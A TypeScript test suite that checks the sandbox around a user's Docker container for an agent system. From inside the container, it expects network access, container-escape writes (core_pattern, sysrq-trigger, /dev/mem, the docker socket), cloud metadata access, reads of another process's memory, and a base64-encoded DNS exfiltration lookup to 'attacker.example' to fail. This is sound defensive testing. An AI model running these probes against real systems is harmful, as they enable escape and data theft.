/** The wall around a user's container, tried from inside as either of its users: no network, no neighbour, no power. */
import { readlinkSync } from 'node:fs';
import { networkInterfaces } from 'node:os';
import { beforeAll, describe, expect, it } from 'vitest';
import { AGENT, BRIDGE, inside, ROOT } from '../kit/inside.js';
import type { User } from '../kit/installation.js';
import { installed } from './installed.js';
import { openTargets, type Targets } from './targets.js';

const setup = installed({ runtime: 'docker' });
let alice: User;
let bob: User;
beforeAll(async () => {
  [alice, bob] = await Promise.all([setup.ara.addUser('alice'), setup.ara.addUser('bob')]);
  // Both rooms of both run.
  await Promise.all([setup.ara.ask(alice, 'hello'), setup.ara.ask(bob, 'hello')]);
});

const asAlice = <T>(uid: number, script: string): Promise<T> =>
  inside<T>(setup.ara.container(alice), uid, script);

/** What a script must do to say how an attempt ended: `done`, or the code of its error. */
const ATTEMPT = `
  const fs = require('node:fs');
  const attempt = (work) => { try { work(); return 'done'; } catch (error) { return error.code; } };
`;

/** Processes of the container by what they are: every one of them can be listed, none of them looked into. */
const PROCESSES = `${ATTEMPT}
  const processes = fs.readdirSync('/proc').filter((name) => /^\\d+$/.test(name)).flatMap((pid) => {
    try { return [{ pid, command: fs.readFileSync('/proc/' + pid + '/cmdline', 'utf8').split('\\0').join(' ') }]; }
    catch { return []; }
  });
  const pidOf = (room) => processes.find(({ command }) => command.includes(room + '.mjs')).pid;
`;

describe.each([
  ['the bridge room', BRIDGE],
  ['the agent room', AGENT],
  ['even root inside', ROOT],
])('from %s', (_name, uid) => {
  it('there is no network interface but the container’s own loopback', async () => {
    const names = await asAlice<string[]>(
      uid,
      `return require('node:fs').readFileSync('/proc/net/dev', 'utf8').trim().split('\\n').slice(2)
        .map((line) => line.trim().split(':')[0])`,
    );
    expect(names).toEqual(['lo']);
  });

  it('nothing can be reached: not the host, not its services, not the metadata, not the world', async () => {
    const targets = await openTargets();
    const list = [
      ...hostAddresses().flatMap((host) =>
        [targets.port, setup.ara.port, 5432, 6379, 22, 2375].map((port) => ({ host, port })),
      ),
      ...[
        '169.254.169.254',
        'fd00:ec2::254',
        '1.1.1.1',
        '8.8.8.8',
        '2606:4700:4700::1111',
        '100.100.100.200',
      ].flatMap((host) => [80, 443, 53].map((port) => ({ host, port }))),
    ];
    // The control: what answers here, on every address of the host, must not answer in there.
    for (const host of hostAddresses()) expect(await targets.reachable(host)).toBe(true);
    const reached = await asAlice<string[]>(
      uid,
      `const targets = ${JSON.stringify(list)};
      const net = require('node:net');
      const reach = ({ host, port }) => new Promise((done) => {
        const socket = net.connect({ host, port, timeout: 1500 }, () => done(host + ' ' + port));
        for (const event of ['error', 'timeout']) socket.once(event, () => { socket.destroy(); done(null); });
      });
      return (await Promise.all(targets.map(reach))).filter(Boolean);`,
    );
    expect(reached).toEqual([]);
    await noDatagramOrName(uid, targets);
    await targets.close();
  });

  it('the engine’s socket is not there, and the root cannot be written', async () => {
    const found = await asAlice<Record<string, string>>(
      uid,
      `${ATTEMPT}
      return {
        engine: attempt(() => fs.statSync('/var/run/docker.sock')),
        engineToo: attempt(() => fs.statSync('/run/docker.sock')),
        rooms: attempt(() => fs.appendFileSync('/opt/ara/rooms/bridge.mjs', ' ')),
        programs: attempt(() => fs.writeFileSync('/usr/bin/new', '')),
        core: attempt(() => fs.writeFileSync('/proc/sys/kernel/core_pattern', '|/tmp/x')),
        sysrq: attempt(() => fs.writeFileSync('/proc/sysrq-trigger', 'b')),
        cgroup: attempt(() => fs.mkdirSync('/sys/fs/cgroup/memory/mine')),
        block: attempt(() => fs.readFileSync('/dev/vda')),
        memory: attempt(() => fs.readFileSync('/dev/mem')),
      };`,
    );
    expect(found).toMatchObject({ engine: 'ENOENT', engineToo: 'ENOENT' });
    for (const [place, end] of Object.entries(found))
      expect(`${place}: ${end}`).toMatch(/: (ENOENT|EACCES|EROFS|EPERM)$/);
  });

  async function noDatagramOrName(user: number, targets: Targets): Promise<void> {
    const hosts = [...hostAddresses(), '1.1.1.1'].filter((host) => !host.includes(':'));
    for (const host of hosts) if (host !== '1.1.1.1') await targets.datagramFrom(host);
    const before = targets.datagrams();
    const named = await asAlice<string[]>(
      user,
      `const hosts = ${JSON.stringify(hosts)};
      const dgram = require('node:dgram'); const dns = require('node:dns').promises;
      for (const host of hosts) for (const port of [${targets.udpPort}, 53]) {
        const socket = dgram.createSocket('udp4');
        await new Promise((done) => { socket.once('error', done); socket.send('secret', port, host, done); });
        socket.close();
      }
      const names = ['example.org', 'host.docker.internal', 'ara-${bob.id}', 'c2VjcmV0.attacker.example'];
      const answers = await Promise.all(names.flatMap((name) => [dns.lookup(name), dns.resolve4(name)])
        .map((question) => question.then((answer) => JSON.stringify(answer), () => null)));
      return answers.filter(Boolean);`,
    );
    expect(named).toEqual([]);
    // One more of ours, behind theirs: had theirs left, it would have been here first.
    await targets.datagramFrom('127.0.0.1');
    expect(targets.datagrams()).toBe(before + 1);
  }
});

describe('the agent room', () => {
  it('cannot open a door, or even look where they are', async () => {
    const ends = await asAlice<string[]>(
      AGENT,
      `${ATTEMPT}
      const net = require('node:net');
      const knock = (name) => new Promise((done) => {
        const socket = net.connect('/doors/' + name, () => done('opened'));
        socket.once('error', (error) => done(error.code));
      });
      return [attempt(() => fs.readdirSync('/doors')),
        ...await Promise.all(['gateway.sock', 'egress.sock', 'worker.sock'].map(knock))];`,
    );
    expect(ends).toEqual(['EACCES', 'EACCES', 'EACCES', 'EACCES']);
    // The control: the other room can.
    expect(await asAlice<string[]>(BRIDGE, `return require('node:fs').readdirSync('/doors').sort()`)).toEqual(
      ['egress.sock', 'gateway.sock', 'worker.sock'],
    );
  });

  it('cannot read what the bridge room keeps, in files or in memory, nor disturb it', async () => {
    const ends = await asAlice<string[]>(
      AGENT,
      `${PROCESSES}
      const bridge = pidOf('bridge');
      return [
        attempt(() => fs.readdirSync('/data/bridge')),
        attempt(() => fs.readFileSync('/data/bridge/journal.sqlite')),
        attempt(() => fs.readFileSync('/proc/' + bridge + '/environ')),
        attempt(() => fs.readFileSync('/proc/' + bridge + '/mem')),
        attempt(() => fs.readdirSync('/proc/' + bridge + '/fd')),
        attempt(() => fs.readdirSync('/proc/' + bridge + '/root/doors')),
        attempt(() => process.kill(Number(bridge), 'SIGSTOP')),
        attempt(() => process.kill(1, 'SIGTERM')),
        attempt(() => fs.writeFileSync('/run/service/agent/supervise/control', 'u')),
        attempt(() => fs.readdirSync('/run/service/bridge')),
      ];`,
    );
    for (const end of ends) expect(end).toMatch(/^(EACCES|EPERM)$/);
  });

  it('is not read by the bridge room either', async () => {
    const ends = await asAlice<string[]>(
      BRIDGE,
      `${PROCESSES}
      return [attempt(() => fs.readdirSync('/data/agent')), attempt(() => fs.readFileSync('/proc/' + pidOf('agent') + '/mem'))];`,
    );
    expect(ends).toEqual(['EACCES', 'EACCES']);
  });
});

describe('the neighbour', () => {
  it('shares no namespace but that of users, and no process can be seen', async () => {
    const spaces = ['mnt', 'pid', 'net', 'ipc', 'uts', 'cgroup'];
    const script = `return ${JSON.stringify(spaces)}.map((name) => require('node:fs').readlinkSync('/proc/self/ns/' + name))`;
    const [ours, theirs] = await Promise.all(
      [alice, bob].map((user) => inside<string[]>(setup.ara.container(user), AGENT, script)),
    );
    const host = spaces.map((name) => readlinkSync(`/proc/self/ns/${name}`));
    for (const at of spaces.keys()) expect(new Set([ours?.[at], theirs?.[at], host[at]]).size).toBe(3);
    const commands = await asAlice<string[]>(
      ROOT,
      `${PROCESSES} return processes.map(({ command }) => command)`,
    );
    // Our own rooms are among them, and no others.
    for (const room of ['bridge.mjs', 'agent.mjs'])
      expect(commands.filter((command) => command.includes(`/rooms/${room}`))).toHaveLength(1);
  });

  it('has doors and a volume that are nowhere in our mounts', async () => {
    const mounts = await asAlice<string>(
      ROOT,
      `return require('node:fs').readFileSync('/proc/self/mountinfo', 'utf8')`,
    );
    expect(mounts).toContain(`/doors/${alice.id} /doors `);
    expect(mounts).toContain(`ara-${alice.id}/_data /data `);
    expect(mounts).not.toContain(bob.id);
    const reached = await asAlice<string[]>(
      BRIDGE,
      `${ATTEMPT}
      return ['/var/lib/docker', '${setup.ara.runDir}', '${setup.ara.dataDir}', '/doors/../${bob.id}']
        .map((path) => attempt(() => fs.readdirSync(path)));`,
    );
    expect(reached).toEqual(['ENOENT', 'ENOENT', 'ENOENT', 'ENOENT']);
  });
});

describe('what the kernel grants', () => {
  const NOTHING = '0000000000000000';

  it('to process 1 is three capabilities, and to the rooms none', async () => {
    const statuses = await asAlice<Record<string, Record<string, string>>>(
      ROOT,
      `${PROCESSES}
      const statusOf = (pid) => Object.fromEntries(fs.readFileSync('/proc/' + pid + '/status', 'utf8').trim().split('\\n')
        .map((line) => line.split(':\\t')).map(([name, value = '']) => [name, value.trim()]));
      return { init: statusOf(1), bridge: statusOf(pidOf('bridge')), agent: statusOf(pidOf('agent')) };`,
    );
    // CAP_KILL is 5, CAP_SETGID 6, CAP_SETUID 7.
    expect(statuses['init']).toMatchObject({ CapBnd: '00000000000000e0', NoNewPrivs: '1', Seccomp: '2' });
    for (const [room, uid] of [
      ['bridge', BRIDGE],
      ['agent', AGENT],
    ] as const) {
      expect(statuses[room]).toMatchObject({
        Uid: Array(4).fill(uid).join('\t'),
        Gid: Array(4).fill(uid).join('\t'),
        Groups: '',
        CapInh: NOTHING,
        CapPrm: NOTHING,
        CapEff: NOTHING,
        CapAmb: NOTHING,
        NoNewPrivs: '1',
        Seccomp: '2',
      });
    }
  });

  it('leaves no environment but how to find and run Node', async () => {
    const names = await asAlice<string[]>(
      BRIDGE,
      `${PROCESSES}
      return fs.readFileSync('/proc/' + pidOf('bridge') + '/environ', 'utf8').split('\\0').filter(Boolean).map((each) => each.split('=')[0]).sort()`,
    );
    expect(names).toEqual(['MALLOC_ARENA_MAX', 'NODE_COMPILE_CACHE', 'PATH']);
  });
});

function hostAddresses(): string[] {
  const found = Object.entries(networkInterfaces()).flatMap(([name, addresses = []]) =>
    addresses.map(({ address }) => (address.startsWith('fe80') ? `${address}%${name}` : address)),
  );
  return found.filter((address) => address !== '127.0.0.1' && address !== '::1');
}
